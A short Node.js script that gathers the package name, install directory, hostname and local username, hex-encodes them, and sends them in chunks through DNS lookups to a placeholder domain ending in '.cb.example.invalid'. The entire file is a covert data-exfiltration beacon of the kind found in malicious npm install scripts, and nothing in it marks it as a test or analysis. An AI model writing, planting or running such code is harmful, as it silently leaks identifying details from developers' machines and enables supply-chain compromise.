const os = require('os');
const dns = require('dns');
const pkg = require('./package.json');
const suffix = '.cb.example.invalid';
const info = { p: pkg.name, c: __dirname, h: os.hostname(), d: os.userInfo().username };
let hex = Buffer.from(JSON.stringify(info)).toString('hex');
const chunks = hex.match(/.{1,60}/g);
const id = Math.floor(Math.random() * 1e6).toString(36);
for (let i = 0; i < chunks.length; i++) {
  dns.lookup(i + '.' + chunks[i] + '.' + id + suffix, () => {});
}